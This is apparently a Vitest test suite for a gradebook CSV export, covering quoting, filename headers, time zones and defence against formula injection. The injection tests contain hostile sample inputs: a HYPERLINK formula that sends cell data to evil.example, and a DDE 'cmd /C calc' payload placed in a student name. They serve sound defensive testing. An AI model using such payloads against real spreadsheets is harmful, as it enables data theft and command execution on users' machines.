import { describe, expect, it } from "vitest";
import { attachmentDisposition, csvField, encodeCsv } from "@/lib/gradebook/csv";
import type { Gradebook } from "@/lib/gradebook/load-gradebook";
import { gradebookCsv, gradebookCsvDisposition } from "@/lib/gradebook/gradebook-csv";
import { isoInTimeZone } from "@/lib/gradebook/zoned-iso";
import { GRADEBOOK_CSV_LABELS } from "../helpers/gradebook-labels";

describe("CSV encoding", () => {
  it("starts with a UTF-8 BOM and ends every row with CRLF", () => {
    const csv = encodeCsv([
      ["Name", "Score %"],
      ["王小明", "87.5"],
    ]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe("\uFEFFName,Score %\r\n王小明,87.5\r\n");
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it("quotes fields with commas, quotes or line breaks and doubles the quotes (RFC 4180)", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("Smith, Jane")).toBe('"Smith, Jane"');
    expect(csvField('Jane "JJ" Smith')).toBe('"Jane ""JJ"" Smith"');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r")).toBe('"cr\r"');
    expect(csvField("")).toBe("");
  });
});

describe("CSV formula injection (OWASP)", () => {
  // Each character a spreadsheet reads as the start of a formula, or skips before one.
  const triggers = ["=", "+", "-", "@", "\t", "\r"];

  it.each(triggers.map((c) => [JSON.stringify(c), c]))(
    "prefixes text starting with %s with a single quote and quotes the cell",
    (_shown, c) => {
      const payload = `${c}HYPERLINK("http://evil.example/?"&A1,"Click")`;
      expect(csvField(payload)).toBe(`"'${payload.replaceAll('"', '""')}"`);
      expect(csvField(`${c}1+1`)).toBe(`"'${c}1+1"`);
    },
  );

  it("leaves text with a trigger character later on, and the app's numbers (negative ones too), as they were", () => {
    expect(csvField("Jean-Luc")).toBe("Jean-Luc");
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("ann@example.com")).toBe("ann@example.com");
    expect(csvField(87.5)).toBe("87.5");
    expect(csvField(-1)).toBe("-1");
    expect(csvField(0)).toBe("0");
    expect(csvField(Number.NaN)).toBe("");
  });

  it("neutralises a hostile name and email in the gradebook file but keeps the scores numeric", () => {
    const labels = GRADEBOOK_CSV_LABELS;
    const submittedAt = new Date("2026-11-22T10:00:00Z");
    const book = {
      assignment: { title: { en: "Quiz", zh: "测验" } },
      questions: [{ id: "q1", title: "@SUM(1+1)", type: "single", facility: 1, discrimination: null }],
      students: [
        {
          userId: "u1",
          name: '=cmd|" /C calc"!A0',
          email: "-2+3@example.com",
          status: "submitted",
          attempts: 1,
          scorePercent: 100,
          timeTakenMs: 65_000,
          submittedAt,
          late: false,
          questionScores: [1],
          awaitingGrade: [],
        },
      ],
    } as unknown as Gradebook;
    const [header, row] = gradebookCsv(book, labels, "UTC").split("\r\n");
    expect(header).toBe('\uFEFFName,Email,Status,Score %,Awaiting grading,Time,Submitted at,Late,"\'@SUM(1+1)"');
    expect(row).toBe(`"'=cmd|"" /C calc""!A0","'-2+3@example.com",Submitted,100,0,1:05,2026-11-22T10:00:00+00:00,no,1`);
  });
});

describe("the download header", () => {
  it("gives an ASCII fallback name and the real name in filename*", () => {
    expect(attachmentDisposition("Week 1 quiz-gradebook.csv")).toBe(
      `attachment; filename="Week-1-quiz-gradebook.csv"; filename*=UTF-8''Week%201%20quiz-gradebook.csv`,
    );
    const zh = attachmentDisposition("第一周测验-gradebook.csv");
    expect(zh).toContain(`filename="gradebook.csv"`);
    expect(zh).toContain(`filename*=UTF-8''${encodeURIComponent("第一周测验")}-gradebook.csv`);
    expect(attachmentDisposition('a "quoted"; name.csv')).toContain(`filename="a-quoted-name.csv"`);
  });
});

describe("the gradebook file as the instructor reads it", () => {
  const student = (over: object) => ({
    userId: "u",
    name: "Lin",
    email: "lin@example.com",
    status: "submitted",
    attempts: 1,
    scorePercent: 50,
    timeTakenMs: 60_000,
    submittedAt: new Date("2026-11-22T10:00:00Z"),
    late: false,
    questionScores: [1, 0],
    awaitingGrade: [],
    ...over,
  });
  const book = (students: object[]) =>
    ({
      assignment: { className: "ML 101", title: { en: "Week 1", zh: "第一周" } },
      questions: [
        { id: "choice", title: "Choice", type: "single", facility: 1, discrimination: null, awaiting: 0 },
        { id: "essay", title: "Essay", type: "open", facility: 0, discrimination: null, awaiting: 1 },
      ],
      students,
    }) as unknown as Gradebook;

  it("marks an answer awaiting the instructor's grade, counts it 0 in the score and counts it per student", () => {
    const csv = gradebookCsv(
      book([
        student({ awaitingGrade: ["essay"] }),
        student({ name: "Sam", questionScores: [1, 0.5], scorePercent: 75 }),
        student({
          name: "Ann",
          status: "not-started",
          scorePercent: null,
          timeTakenMs: null,
          submittedAt: null,
          questionScores: [null, null],
        }),
      ]),
      GRADEBOOK_CSV_LABELS,
      "UTC",
    ).split("\r\n");
    expect(csv[1]).toBe("Lin,lin@example.com,Submitted,50,1,1:00,2026-11-22T10:00:00+00:00,no,1,awaiting grading");
    expect(csv[2]).toBe("Sam,lin@example.com,Submitted,75,0,1:00,2026-11-22T10:00:00+00:00,no,1,0.5");
    expect(csv[3]).toBe("Ann,lin@example.com,Not started,,,,,,,");
  });

  it("writes times in the instructor's time zone with the offset (ISO 8601), across a DST change too", () => {
    const at = new Date("2026-11-22T10:00:00Z");
    expect(isoInTimeZone(at, "Asia/Shanghai")).toBe("2026-11-22T18:00:00+08:00");
    expect(isoInTimeZone(at, "America/New_York")).toBe("2026-11-22T05:00:00-05:00");
    expect(isoInTimeZone(new Date("2026-07-01T10:00:00Z"), "America/New_York")).toBe("2026-07-01T06:00:00-04:00");
    expect(isoInTimeZone(at, "Asia/Kolkata")).toBe("2026-11-22T15:30:00+05:30");
    const [, row] = gradebookCsv(book([student({})]), GRADEBOOK_CSV_LABELS, "Asia/Shanghai").split("\r\n");
    expect(row).toContain(",2026-11-22T18:00:00+08:00,");
  });

  it("names the file after the class and the assignment, in safe characters, Chinese names in filename*", () => {
    expect(gradebookCsvDisposition(book([]), "en")).toBe(
      `attachment; filename="ML-101-Week-1-gradebook.csv"; filename*=UTF-8''ML%20101-Week%201-gradebook.csv`,
    );
    const zh = gradebookCsvDisposition(book([]), "zh");
    expect(zh).toContain(`filename*=UTF-8''ML%20101-${encodeURIComponent("第一周")}-gradebook.csv`);
    const hostile = {
      assignment: { className: "A/B: C\\D", title: { en: "x<y>|?*", zh: "x" } },
      questions: [],
      students: [],
    } as unknown as Gradebook;
    expect(gradebookCsvDisposition(hostile, "en")).toContain(`filename*=UTF-8''A-B-%20C-D-x-y-gradebook.csv`);
  });
});
